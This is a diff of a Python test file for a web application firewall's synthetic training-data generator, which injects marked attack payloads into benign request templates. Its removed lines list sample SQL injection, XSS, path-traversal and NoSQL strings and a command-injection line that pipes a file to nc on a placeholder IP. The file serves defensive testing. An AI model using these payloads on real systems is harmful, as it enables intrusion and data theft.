@@ -3,50 +3,27 @@
 from __future__ import annotations
 
 import base64
-import csv
-import io
 import json
 import urllib.parse
 import xml.etree.ElementTree as ET
 from collections import Counter
-from email.parser import BytesParser
-from email.policy import HTTP
 from typing import Any
 
 import pytest
 
-from tests.training.test_synth import _strings, problems
+from tests.training import template_checks as checks
+from tests.training.template_checks import _ctype
 from waf_proxy.training import synth, synth_templates_consumer
-from waf_proxy.training.synth_templates import REGISTRY, Template, templates_for
+from waf_proxy.training.synth_templates import REGISTRY, Template
 from waf_proxy.training.synth_templates_consumer import CONSUMER
-from waf_proxy.training.synth_values import SENTINEL, encode_for_slot
 
 MINE = [REGISTRY[name] for name in CONSUMER]
 SEEDS = range(40)
+KEY = "consumer:{name}:{seed}"
 
 # Each payload carries a marker that no benign value contains, so it can be found after encoding.
 MARK = "zqmark9"
-PAYLOADS = [
-    f"' OR '{MARK}'='{MARK}' -- ",
-    f"<script>alert('{MARK}')</script>",
-    f"../../../{MARK}/etc/passwd",
-    f"; cat /etc/{MARK} | nc 10.0.0.1 4444 #",
-    '{"$where": "' + MARK + '"}',
-]
-
-
-def _on(path: str, routes: tuple[str, ...]) -> bool:
-    return any(path == r if r == "/" else path.startswith(r) for r in routes)
-
-
-def _overlap(a: str, b: str) -> bool:
-    if "/" in (a, b):
-        return a == b
-    return a.startswith(b) or b.startswith(a)
-
-
-def _ctype(record: dict[str, Any]) -> str:
-    return next((v for k, v in record["headers"] if k.lower() == "content-type"), "")
+PAYLOADS = checks.payloads(MARK)
 
 
 def _parse_body(record: dict[str, Any]) -> Any:
@@ -55,20 +32,13 @@ def _parse_body(record: dict[str, Any]) -> Any:
     if "json" in ctype or (ctype.startswith("text/plain") and body.startswith("{")):
         return json.loads(body)
     if "urlencoded" in ctype:
-        return urllib.parse.parse_qsl(body, keep_blank_values=True, strict_parsing=True)
+        return checks.parse_form(body)
     if "multipart" in ctype:
-        raw = f"Content-Type: {_ctype(record)}\r\n\r\n".encode() + body.encode("utf-8")
-        msg = BytesParser(policy=HTTP).parsebytes(raw)
-        assert msg.is_multipart() and not msg.defects
-        parts = {p.get_param("name", header="content-disposition"): p.get_content() for p in msg.iter_parts()}
-        assert parts and all(parts)
-        return parts
+        return checks.parse_multipart(record)
     if "xml" in ctype or "opml" in ctype:
         return ET.fromstring(body.encode("utf-8"))
     if ctype.startswith("text/csv"):
-        rows = list(csv.reader(io.StringIO(body)))
-        assert len(rows) >= 3 and all(len(r) == len(rows[0]) for r in rows)
-        return rows
+        return checks.parse_csv(body, min_rows=3)
     if ctype.startswith("image/jpeg"):
         return base64.b64decode(body, validate=True)
     assert ctype in ("", "text/plain") or ctype.startswith("text/plain;"), ctype
@@ -87,7 +57,7 @@ def _text(record: dict[str, Any]) -> str:
 
 
 def _render_all(tpl: Template) -> list[dict[str, Any]]:
-    return [synth.render(tpl, f"consumer:{tpl.name}:{s}")[0] for s in SEEDS]
+    return checks.render_all(tpl, KEY, SEEDS)
 
 
 @pytest.fixture(scope="module")
@@ -96,46 +66,27 @@ def rendered() -> dict[str, list[dict[str, Any]]]:
 
 
 def test_consumer_templates_are_registered_as_train() -> None:
-    assert 10 <= len(CONSUMER) <= 14 and len(set(CONSUMER)) == len(CONSUMER)
-    defined_here = {t.name for t in REGISTRY.values() if t.build.__module__ == synth_templates_consumer.__name__}
-    assert defined_here == set(CONSUMER)
-    train = {t.name for t in templates_for("train")}
-    assert set(CONSUMER) <= train
-    assert all(REGISTRY[name].group == "train" and REGISTRY[name].weight > 0 for name in CONSUMER)
+    assert 10 <= len(CONSUMER) <= 14
+    checks.check_registered(CONSUMER, synth_templates_consumer, "train")
 
 
 def test_routes_are_disjoint_from_every_other_template() -> None:
     for mine in MINE:
         assert mine.routes and all(r.startswith("/") and r.endswith("/") and r.count("/") >= 2 for r in mine.routes), mine.routes
-        for other in REGISTRY.values():
-            if other.name == mine.name:
-                continue
-            for a in mine.routes:
-                for b in other.routes:
-                    assert not _overlap(a, b), (mine.name, a, other.name, b)
+    checks.check_routes_disjoint(MINE)
 
 
-def test_rendering_is_deterministic_per_seed(rendered) -> None:
-    for tpl in MINE:
-        assert rendered[tpl.name] == _render_all(tpl), tpl.name
-        distinct = {json.dumps(r, sort_keys=True) for r in rendered[tpl.name]}
-        assert len(distinct) >= len(SEEDS) * 0.9, tpl.name
+def test_rendering_is_deterministic_per_seed() -> None:
+    checks.check_deterministic(MINE, _render_all, 0.9)
 
 
-def test_benign_requests_are_valid_parse_and_stay_on_their_routes(rendered) -> None:
-    other_routes = tuple(r for t in REGISTRY.values() if t.name not in CONSUMER for r in t.routes)
-    for tpl in MINE:
-        for i, request in enumerate(rendered[tpl.name]):
-            record = synth._finish(request, f"t-{tpl.name}-{i}", "benign", "normal", f"synth:{tpl.name}")
-            assert problems(record) == [], (tpl.name, i, problems(record))
-            assert _on(record["path"], tpl.routes) and not _on(record["path"], other_routes), (tpl.name, record["path"])
-            assert SENTINEL not in json.dumps(record)
-            if record["method"] in ("GET", "HEAD", "OPTIONS"):
-                assert record["body"] == "", (tpl.name, record["method"])
-            if record["body"]:
-                assert _ctype(record), (tpl.name, i)
-            _parse_body(record)
-            assert len(record["body"]) < 12_000, (tpl.name, len(record["body"]))
+def test_benign_requests_are_valid_parse_and_stay_on_their_routes() -> None:
+    records = checks.finish_all(MINE, KEY, SEEDS, "t")
+    checks.check_benign(records, CONSUMER, _parse_body)
+    for record in records:
+        if record["body"]:
+            assert _ctype(record), record["id"]
+        assert len(record["body"]) < 12_000, (record["id"], len(record["body"]))
 
 
 def test_consumer_templates_cover_methods_formats_clients_and_languages(rendered) -> None:
@@ -166,71 +117,21 @@ def test_consumer_templates_cover_methods_formats_clients_and_languages(rendered
         assert trap in blob, trap
 
 
-def _decoded(record: dict[str, Any], field: str, kind: str) -> str:
-    """The field holding a payload, decoded the way the receiving app would."""
-    if field.startswith("header:"):
-        return urllib.parse.unquote(dict(record["headers"])[field[7:]])
-    if field == "path":
-        return urllib.parse.unquote(record["path"])
-    if field == "query":
-        values = [v for _, v in urllib.parse.parse_qsl(record["query"], keep_blank_values=True)]
-        if kind == "json_query":
-            return "\n".join(s for v in values if v.startswith("{") for s in _strings(json.loads(v)))
-        return "\n".join(values)
-    if kind == "json":
-        return "\n".join(_strings(_parse_body(record)))
-    if kind == "form":
-        return "\n".join(v for _, v in _parse_body(record))
-    if kind == "xml":
-        root = _parse_body(record)
-        return "\n".join([*(t for el in root.iter() for t in (el.text or "",)), *(a for el in root.iter() for a in el.attrib.values())])
-    return record["body"]  # multipart parts and raw text bodies carry the payload as is
-
-
 @pytest.mark.parametrize("tpl", MINE, ids=lambda t: t.name)
 def test_a_payload_in_any_slot_lands_in_the_request_and_only_there(tpl: Template) -> None:
-    kinds: set[str] = set()
-    for seed in range(10):
-        benign, ctx = synth.render(tpl, f"slot:{seed}")
-        assert ctx.slots, tpl.name
-        for at, slot in enumerate(ctx.slots):
-            kinds.add(slot.kind)
-            payload = PAYLOADS[(seed + at) % len(PAYLOADS)]
-            attack, actx = synth.render(tpl, f"slot:{seed}", inject_at=at)
-            encoded = encode_for_slot(actx, slot.kind, payload)
-            fields = {k: attack[k] for k in ("path", "query", "body")} | {f"header:{k}": v for k, v in attack["headers"]}
-            holding = [k for k, value in fields.items() if SENTINEL in value]
-            assert len(holding) == 1 and fields[holding[0]].count(SENTINEL) == 1, (tpl.name, slot)
-            field = synth._replace_sentinel(attack, encoded)
-            assert field == holding[0]
-            for key in ("method", "path", "query", "body"):
-                if key != field:
-                    assert attack[key] == benign[key], (tpl.name, slot, key)
-            record = synth._finish(attack, "a", "attack", "sqli", "s")
-            assert problems(record) == [], (tpl.name, slot, problems(record))
-            if slot.kind not in ("cookie", "header"):
-                assert payload in _decoded(attack, field, slot.kind), (tpl.name, slot)
-            else:
-                assert MARK in _decoded(attack, field, slot.kind), (tpl.name, slot)
+    renders = checks.check_slot_injection(tpl, 10, _parse_body, PAYLOADS, MARK)
+    kinds = {slot.kind for _, ctx in renders for slot in ctx.slots}
     assert kinds - {"header", "cookie"}, (tpl.name, kinds)  # user values, not only client headers
 
 
 def test_module_as_a_whole_uses_many_slot_kinds() -> None:
-    kinds = Counter()
-    for tpl in MINE:
-        for seed in range(15):
-            _, ctx = synth.render(tpl, f"kinds:{seed}")
-            kinds.update(s.kind for s in ctx.slots)
-    assert {"json", "json_query", "query", "form", "path", "header", "cookie", "multipart", "xml"} <= set(kinds), kinds
+    kinds = checks.slot_kinds(MINE, "kinds:{seed}", range(15))
+    assert checks.EVERY_SLOT_KIND <= set(kinds), kinds
 
 
 def test_generated_attacks_reach_every_consumer_template(monkeypatch: pytest.MonkeyPatch) -> None:
     """The attack pipeline, run over this module's templates only (siblings are tested on their own)."""
     monkeypatch.setattr(synth, "templates_for", lambda group: list(MINE))
-    payloads = [(p, c) for p, c in zip(PAYLOADS, ("sqli", "xss", "path-traversal", "rce", "nosql-injection"))]
-    mine = synth.generate_attack_pairs(400, payloads, seed=31, templates="train", evasion_rate=0.25)
+    mine = synth.generate_attack_pairs(400, PAYLOADS, seed=31, templates="train", evasion_rate=0.25)
     assert {i["template"] for _, _, i in mine} == set(CONSUMER)
-    for benign, attack, info in mine:
-        assert problems(attack) == [] and problems(benign) == []
-        if info["slot"] == "json":
-            _parse_body(attack)  # a payload in a JSON field keeps the body valid JSON
+    checks.check_attack_pairs(mine, _parse_body)
